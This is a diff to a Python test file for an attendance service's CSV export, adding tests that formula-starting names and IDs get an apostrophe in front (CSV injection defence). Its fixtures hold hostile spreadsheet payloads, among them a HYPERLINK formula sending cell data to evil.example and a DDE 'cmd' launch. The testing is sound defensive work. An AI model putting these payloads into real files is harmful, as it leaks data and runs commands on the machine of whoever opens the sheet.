@@ -116,11 +116,13 @@ def test_the_csv_holds_the_jsons_attendees(client, auth, db, yesterday):
     body = client.get(f"/sessions/{doc['_id']}/attendance", headers=auth).get_json()
     columns = ATTENDEE_HEADER.split(",")
     assert response.get_data().startswith(ATTENDEE_HEADER.encode() + b"\r\n")
-    assert rows == [columns, *(as_cells(a, columns) for a in body["attendees"])]
+    expected = [as_cells(a, columns) for a in body["attendees"]]
+    expected[2][1] = "'Zoë\nNewline"  # a line break: behind an apostrophe (CSV injection)
+    assert rows == [columns, *expected]
     assert [row[0] for row in rows[1:]] == [INSTRUCTOR, "student-1", "guest-9"]
     guest = rows[3]
     # counted until the room closed: 60 minutes and 30 of grace, from minute 1
-    assert guest[1:] == ["Zoë\nNewline", "guest", guest[3], "", "false", "89.0", "1"]
+    assert guest[1:] == ["'Zoë\nNewline", "guest", guest[3], "", "false", "89.0", "1"]
     assert rows[2][1] == 'Ann "the great", Smith'
     assert rows[2][6:] == ["15.0", "2"]
     assert b'"Ann ""the great"", Smith"' in response.get_data()  # quoted as RFC 4180 says
@@ -140,6 +142,63 @@ def test_a_name_a_spreadsheet_would_run_is_written_behind_an_apostrophe(
     assert rows[1][:2] == ["student-1", "'" + name]
     body = client.get(f"/sessions/{doc['_id']}/attendance", headers=auth).get_json()
     assert body["attendees"][0]["userName"] == name  # the JSON keeps the name as it is
+
+
+# What a spreadsheet runs as a formula: a field beginning, after whitespace, with one of these.
+FORMULA_STARTS = ("=", "+", "-", "@")
+# Names that start a formula in a spreadsheet reading the file with `,`, `;` or either,
+# or across a line break; each with the cell the CSV must hold (read with `,`).
+HOSTILE_NAMES = {
+    '=HYPERLINK("https://evil.example/?x="&A1,"Open")': (
+        '\'=HYPERLINK("https://evil.example/?x="&A1,"Open")'
+    ),
+    " @SUM(1)": "' @SUM(1)",
+    "a;=1+1": "'a;'=1+1",
+    "a,=cmd|' /C calc'!A0": "'a,'=cmd|' /C calc'!A0",
+    "x\n=1": "'x\n'=1",
+    "\t=1": "'\t'=1",
+    'ok;"=2': "'ok;'\"=2",  # a quote the `;` reading drops before the formula
+    "Ann; Bob": "Ann; Bob",  # nothing a spreadsheet would run: left as it is
+}
+
+
+def assert_no_formula(raw):
+    """Read back with `,` and with `;` as the separator: no field opens a formula."""
+    text = raw.decode("utf-8")
+    for delimiter in (",", ";"):
+        for record in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            for field in record:
+                assert not field.strip().startswith(FORMULA_STARTS), (delimiter, field)
+
+
+def test_no_spreadsheet_runs_a_name_whatever_its_separator(client, auth, db, yesterday):
+    """CSV injection: hostile names written by visitors to the room, read back as a
+    spreadsheet using `,` or `;` would read the file."""
+    names = list(HOSTILE_NAMES)
+    users = [f"student-{i}" for i in range(len(names))]
+    doc = seed_session(db, scheduledAt=yesterday, status="ended", participants=users)
+    for i, (user, name) in enumerate(zip(users, names, strict=True)):
+        visit(client, doc, user, minutes=5, user_name=name, after=i)
+    response = client.get(f"/sessions/{doc['_id']}/attendance.csv", headers=auth)
+    rows = read_csv(response, f"attendance-{doc['_id']}.csv")
+    assert [row[1] for row in rows[1:]] == list(HOSTILE_NAMES.values())
+    assert [row[2:4] for row in rows[1:]] == [["participant", r[3]] for r in rows[1:]]
+    assert {row[6] for row in rows[1:]} == {"5.0"}  # the service's numbers as they are
+    assert_no_formula(response.get_data())
+    body = client.get(f"/sessions/{doc['_id']}/attendance", headers=auth).get_json()
+    assert [a["userName"] for a in body["attendees"]] == names  # the JSON keeps them
+    stored = db.attendance.find({"session": doc["_id"]}).sort("joinedAt")
+    assert [v["userName"] for v in stored] == names
+
+
+def test_no_spreadsheet_runs_a_student_id_of_the_course_report(client, admin, db, yesterday):
+    ids = ["-1+1", "s;@SUM(A1)", "s1"]
+    seed_session(db, scheduledAt=yesterday, status="ended", participants=ids)
+    response = client.get(f"/sessions/course/{COURSE}/attendance?format=csv", headers=admin)
+    rows = read_csv(response, f"attendance-course-{COURSE}.csv")
+    assert [row[0] for row in rows[1:]] == ["'-1+1", "s1", "'s;'@SUM(A1)"]  # by id
+    assert [row[1:] for row in rows[1:]] == [["1", "0", "0.0", "0.0"]] * 3
+    assert_no_formula(response.get_data())
 
 
 def test_the_csv_of_a_class_nobody_joined_is_its_header(client, admin, db):
